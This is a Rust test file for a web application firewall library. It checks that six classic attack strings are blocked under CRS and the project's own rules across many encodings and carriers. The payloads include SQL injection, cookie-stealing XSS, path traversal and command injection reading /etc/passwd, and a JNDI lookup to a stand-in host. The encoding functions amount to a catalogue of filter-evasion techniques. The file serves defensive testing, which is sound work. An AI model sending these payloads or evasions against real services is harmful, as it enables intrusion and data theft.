//! However an attack is spelt, if the upstream would read it, it is stopped as its plain form is.
//!
//! The table is spellings times carriers, under CRS in blocking mode at paranoia 1 and under Hudun's own rules.

#![allow(clippy::panic, clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::path::PathBuf;

use hudun_seclang::raw::RawRequest;
use hudun_seclang::{Judging, RuleSet, Start, Transaction};

const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
];

fn request(target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("POST {target} HTTP/1.1\r\nHost: scrm.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n").into_bytes();
    for (name, value) in headers {
        out.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
    }
    if !headers.iter().any(|(n, _)| *n == "Transfer-Encoding") {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

fn percent(text: &str, upper: bool) -> String {
    text.bytes()
        .map(|b| {
            if upper {
                format!("%{b:02X}")
            } else {
                format!("%{b:02x}")
            }
        })
        .collect()
}

fn mixed(text: &str) -> String {
    text.bytes()
        .enumerate()
        .map(|(at, b)| match b {
            b' ' => "+".to_owned(),
            b if at % 2 == 0 || !b.is_ascii_alphanumeric() => format!("%{b:02x}"),
            b => (b as char).to_string(),
        })
        .collect()
}

fn escapes(text: &str) -> String {
    text.chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect()
}

fn references(text: &str, hex: bool) -> String {
    text.chars()
        .map(|c| {
            if hex {
                format!("&#x{:x};", u32::from(c))
            } else {
                format!("&#{};", u32::from(c))
            }
        })
        .collect()
}

fn utf16(text: &str) -> Vec<u8> {
    [0xfffe_u16.swap_bytes()]
        .into_iter()
        .chain(text.encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect()
}

fn chunks(body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in body.chunks(3) {
        out.extend_from_slice(format!("{:x};x=y\r\n", piece.len()).as_bytes());
        out.extend_from_slice(piece);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// Every way in which an attack travels.
fn spellings(attack: &str) -> Vec<(&'static str, Vec<u8>)> {
    const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
    const JSON: (&str, &str) = ("Content-Type", "application/json");
    const XML: (&str, &str) = ("Content-Type", "text/xml");
    let quoted = serde_json::to_string(attack).unwrap();
    let inner = &quoted[1..quoted.len() - 1];
    let cdata = format!(
        "<a><![CDATA[{}]]><![CDATA[{}]]></a>",
        &attack[..3],
        &attack[3..]
    );
    let part = |head: &str| format!("--b\r\n{head}\r\n\r\n{attack}\r\n--b--\r\n");
    let multi = ("Content-Type", "multipart/form-data; boundary=b");
    vec![
        (
            "query, percent",
            request(&format!("/a?q={}", percent(attack, false)), &[FORM], b""),
        ),
        (
            "query, upper case percent",
            request(&format!("/a?q={}", percent(attack, true)), &[FORM], b""),
        ),
        (
            "query, mixed",
            request(&format!("/a?q={}", mixed(attack)), &[FORM], b""),
        ),
        (
            "query, second of two alike",
            request(&format!("/a?q=1&q={}", mixed(attack)), &[FORM], b""),
        ),
        (
            "form",
            request("/a", &[FORM], format!("q={}", mixed(attack)).as_bytes()),
        ),
        (
            "form with a charset",
            request(
                "/a",
                &[(
                    "Content-Type",
                    "application/x-www-form-urlencoded; charset=UTF-8",
                )],
                format!("q={}", mixed(attack)).as_bytes(),
            ),
        ),
        (
            "form in chunks",
            request(
                "/a",
                &[FORM, ("Transfer-Encoding", "chunked")],
                &chunks(format!("q={}", mixed(attack)).as_bytes()),
            ),
        ),
        (
            "JSON",
            request("/a", &[JSON], format!("{{\"q\":\"{inner}\"}}").as_bytes()),
        ),
        (
            "JSON, escapes",
            request(
                "/a",
                &[JSON],
                format!("{{\"q\":\"{}\"}}", escapes(attack)).as_bytes(),
            ),
        ),
        (
            "JSON, deep",
            request(
                "/a",
                &[JSON],
                format!("{{\"q\":[[{{\"x\":{{\"y\":\"{inner}\"}}}}]]}}").as_bytes(),
            ),
        ),
        (
            "JSON, name twice",
            request(
                "/a",
                &[JSON],
                format!("{{\"q\":\"{inner}\",\"q\":1}}").as_bytes(),
            ),
        ),
        (
            "JSON, byte order mark",
            request(
                "/a",
                &[JSON],
                format!("\u{feff}{{\"q\":\"{inner}\"}}").as_bytes(),
            ),
        ),
        (
            "JSON, lines",
            request(
                "/a",
                &[JSON],
                format!("{{\"q\":1}}\n{{\"q\":\"{inner}\"}}\n").as_bytes(),
            ),
        ),
        (
            "JSON, UTF-16",
            request("/a", &[JSON], &utf16(&format!("{{\"q\":\"{inner}\"}}"))),
        ),
        (
            "XML, decimal references",
            request(
                "/a",
                &[XML],
                format!("<a>{}</a>", references(attack, false)).as_bytes(),
            ),
        ),
        (
            "XML, hexadecimal references",
            request(
                "/a",
                &[XML],
                format!("<a>{}</a>", references(attack, true)).as_bytes(),
            ),
        ),
        (
            "XML, attribute",
            request(
                "/a",
                &[XML],
                format!("<a b=\"{}\"/>", references(attack, true)).as_bytes(),
            ),
        ),
        ("XML, CDATA in two", request("/a", &[XML], cdata.as_bytes())),
        ("XML, UTF-16", request("/a", &[XML], &utf16(&cdata))),
        (
            "XML, UTF-7",
            request(
                "/a",
                &[XML],
                format!("<?xml version=\"1.0\" encoding=\"utf-7\"?>{cdata}").as_bytes(),
            ),
        ),
        (
            "multipart",
            request(
                "/a",
                &[multi],
                part("Content-Disposition: form-data; name=\"q\"").as_bytes(),
            ),
        ),
        (
            "multipart, quoted boundary",
            request(
                "/a",
                &[("Content-Type", "multipart/form-data; boundary=\"b\"")],
                part("Content-Disposition: form-data; name=q").as_bytes(),
            ),
        ),
        (
            "multipart, odd case",
            request(
                "/a",
                &[("Content-Type", "Multipart/Form-Data; BOUNDARY=b")],
                part("CONTENT-disposition:form-data;NAME=q").as_bytes(),
            ),
        ),
        (
            "multipart, folded header",
            request(
                "/a",
                &[multi],
                part("Content-Disposition: form-data;\r\n name=\"q\"").as_bytes(),
            ),
        ),
        (
            "multipart, bare line feeds",
            request(
                "/a",
                &[multi],
                part("Content-Disposition: form-data; name=\"q\"")
                    .replace("\r\n", "\n")
                    .as_bytes(),
            ),
        ),
        (
            "multipart, nameless",
            request("/a", &[multi], part("Content-Type: text/plain").as_bytes()),
        ),
        (
            "multipart, no last boundary",
            request(
                "/a",
                &[multi],
                part("Content-Disposition: form-data; name=\"q\"")
                    .replace("--b--", "")
                    .as_bytes(),
            ),
        ),
    ]
}

fn check(rules: &RuleSet, whose: &str) {
    for judging in [Judging::Exact, Judging::Balanced, Judging::Strict] {
        check_mode(rules, whose, judging);
    }
}

fn check_mode(rules: &RuleSet, whose: &str, judging: Judging) {
    let mut passed = Vec::new();
    let mut count = 0;
    for attack in ATTACKS {
        for (how, bytes) in spellings(attack) {
            count += 1;
            let request = RawRequest::parse(&bytes).unwrap_or_else(|e| panic!("{how}: {e}"));
            let start = Start {
                judging,
                ..Start::example()
            };
            let mut t = Transaction::new(rules, start);
            if request.feed(&mut t) {
                passed.push(format!("{how}: {attack}"));
            }
        }
    }
    println!(
        "{whose}, {judging:?}: {} of {count} spellings stopped",
        count - passed.len()
    );
    assert!(
        passed.is_empty(),
        "{whose}, {judging:?} lets pass:\n{}",
        passed.join("\n")
    );
}

#[test]
fn under_crs() {
    if let Some(rules) = common::crs("") {
        check(&rules, "CRS");
    }
}

#[test]
fn under_our_own_rules() {
    let pattern = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../rules/waf/*.conf");
    let rules = RuleSet::builder()
        .glob(pattern.to_string_lossy())
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    check(&rules, "rules/waf");
}
